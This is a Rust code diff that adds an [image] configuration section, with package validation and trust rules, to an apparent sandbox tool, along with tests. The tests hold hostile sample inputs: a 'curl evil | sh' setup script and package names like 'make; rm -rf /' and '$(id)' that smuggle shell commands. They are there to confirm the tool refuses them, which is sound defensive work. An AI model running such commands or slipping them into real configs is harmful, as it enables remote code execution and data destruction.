@@ -86,6 +86,12 @@ pub enum ConfigError {
         name: String,
         message: String,
     },
+    #[error("`{key}` in {path}: {message}")]
+    BadImage {
+        path: String,
+        key: String,
+        message: String,
+    },
     #[error("refusing the project config {path}: {reason}")]
     Unsafe {
         path: PathBuf,
@@ -118,6 +124,13 @@ impl ConfigError {
             ConfigError::ProjectSecrets { table, .. } => Some(format!(
                 "a binding decides which hosts may receive a secret, so only your own config.toml may hold one (`kennel config trust` does not change that): move [{table}] there, or remove it"
             )),
+            ConfigError::BadImage { key, .. } if key == "image.packages" => Some(
+                "list the distribution's package names, like packages = [\"golang\", \"make\"] (a version as name=version)"
+                    .into(),
+            ),
+            ConfigError::BadImage { .. } => {
+                Some("see [image] in the configuration reference in the README".into())
+            }
             ConfigError::BadSecret { name, .. } => Some(format!(
                 "see [secrets.NAME] in the configuration reference: `hosts` and one of `header`, `basic` or `query` are needed; `kennel secret set {name}` stores its value"
             )),
@@ -291,6 +304,70 @@ pub struct ConfigFile {
     /// [`crate::credentials`]); never from a project config.
     #[serde(default)]
     pub secrets: BTreeMap<String, crate::credentials::CredentialBinding>,
+    #[serde(default)]
+    pub image: ImageConfig,
+}
+
+/// `[image]`: what the agent's image holds besides kennel's base and the
+/// agent: a layer between them, built once per content.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct ImageConfig {
+    /// Distribution packages to install (`["golang", "make"]`). A project's
+    /// `.kennel.toml` may add some: they only change what runs inside the
+    /// sandbox. Your list and the project's are joined.
+    pub packages: Option<Vec<String>>,
+    /// A shell script run as root while the image is built, after the
+    /// packages. Your own config (or a project config you trust) only.
+    pub setup: Option<String>,
+}
+
+impl ImageConfig {
+    /// What is wrong with `[image]`, as (key, message).
+    pub fn check(&self) -> Result<(), (String, String)> {
+        if let Some(bad) = self
+            .packages
+            .iter()
+            .flatten()
+            .find(|name| !valid_package(name))
+        {
+            return Err((
+                "image.packages".into(),
+                format!("`{bad}` is not a package name"),
+            ));
+        }
+        if self
+            .setup
+            .as_deref()
+            .is_some_and(|setup| setup.contains('\0'))
+        {
+            return Err(("image.setup".into(), "the script holds a NUL byte".into()));
+        }
+        Ok(())
+    }
+}
+
+/// A package name as apt, dnf and apk spell them (letters, digits, `+ . -
+/// _`, starting with a letter or digit), optionally `=version`: nothing a
+/// shell would read as more than one word.
+fn valid_package(name: &str) -> bool {
+    let (package, version) = match name.split_once('=') {
+        Some((package, version)) => (package, Some(version)),
+        None => (name, None),
+    };
+    let plain = |text: &str, extra: &[u8]| {
+        !text.is_empty()
+            && text.len() <= 200
+            && text
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || extra.contains(&b))
+    };
+    package
+        .bytes()
+        .next()
+        .is_some_and(|b| b.is_ascii_alphanumeric())
+        && plain(package, b"+.-_")
+        && version.is_none_or(|version| plain(version, b"+.-_~:"))
 }
 
 /// One parsed layer.
@@ -388,6 +465,13 @@ impl Config {
                     message: error.to_string(),
                 }
             })?;
+        if let Err((key, message)) = file.image.check() {
+            let path = origins
+                .get(&key)
+                .map(|origin| origin.to_string())
+                .unwrap_or_else(|| "your config".into());
+            return Err(ConfigError::BadImage { path, key, message });
+        }
         for (name, binding) in &file.secrets {
             if let Err(message) = binding.check(name) {
                 let path = origins
@@ -619,6 +703,17 @@ fn merge_into(
             (Some(toml::Value::Table(existing)), toml::Value::Table(incoming)) => {
                 merge_into(existing, incoming, &dotted, origin, origins);
             }
+            // Every layer's packages are installed: the lists are joined.
+            (Some(toml::Value::Array(existing)), toml::Value::Array(incoming))
+                if dotted == "image.packages" =>
+            {
+                for item in incoming {
+                    if !existing.contains(item) {
+                        existing.push(item.clone());
+                    }
+                }
+                origins.insert(dotted, origin.clone());
+            }
             _ => {
                 if let toml::Value::Table(incoming) = value {
                     let mut fresh = toml::Table::new();
@@ -661,6 +756,8 @@ fn untrusted_keys(project: &toml::Table, trusted_so_far: &toml::Table) -> Vec<St
     flatten(project, "", &mut |dotted, value| {
         let allowed = match dotted {
             "defaults.deny" | "defaults.base_image" => true,
+            // Packages only change what runs inside the sandbox.
+            "image.packages" => true,
             // A repository may keep its home to itself, never share it.
             "defaults.share_agent_home" => value.as_bool() == Some(false),
             // A repository may ask for its own checkout per session (less
@@ -729,6 +826,59 @@ mod tests {
         }
         let trust = TrustStore::in_memory();
         (Config::load(&sources, &trust), dir)
+    }
+
+    /// A project may add packages (joined with yours), not a setup script;
+    /// a name that is not a package is refused, naming the file and key.
+    #[test]
+    fn image_packages_from_the_project_join_yours_and_setup_is_yours() {
+        let (config, _dir) = load_with(
+            Some("[image]\npackages = [\"make\"]\nsetup = \"touch /opt/x\"\n"),
+            Some("[image]\npackages = [\"golang\", \"make\"]\n"),
+        );
+        let config = config.expect("a project may add packages");
+        assert_eq!(
+            config.file.image.packages.as_deref(),
+            Some(&["make".to_string(), "golang".to_string()][..])
+        );
+        assert_eq!(config.file.image.setup.as_deref(), Some("touch /opt/x"));
+
+        let (config, _dir) = load_with(None, Some("[image]\nsetup = \"curl evil | sh\"\n"));
+        match config {
+            Err(ConfigError::Untrusted { keys, .. }) => assert_eq!(keys, ["image.setup"]),
+            other => panic!("a project set the setup script: {other:?}"),
+        }
+
+        for bad in ["make; rm -rf /", "$(id)", "-o", "", "a b", "pkg=1 2"] {
+            let (config, dir) = load_with(
+                None,
+                Some(&format!(
+                    "[image]\npackages = [{}]\n",
+                    toml::Value::from(bad)
+                )),
+            );
+            match config {
+                Err(error @ ConfigError::BadImage { .. }) => {
+                    let text = error.to_string();
+                    assert!(text.contains("image.packages"), "{text}");
+                    assert!(
+                        text.contains(&dir.path().join(".kennel.toml").display().to_string()),
+                        "{text}"
+                    );
+                }
+                other => panic!("{bad:?} was accepted: {other:?}"),
+            }
+        }
+        for good in ["g++", "python3.11", "libc6-dev", "golang=2:1.19~1", "lib_x"] {
+            let (config, _dir) = load_with(
+                Some(&format!(
+                    "[image]\npackages = [{}]\n",
+                    toml::Value::from(good)
+                )),
+                None,
+            );
+            assert!(config.is_ok(), "{good}: {config:?}");
+        }
     }
 
     #[test]
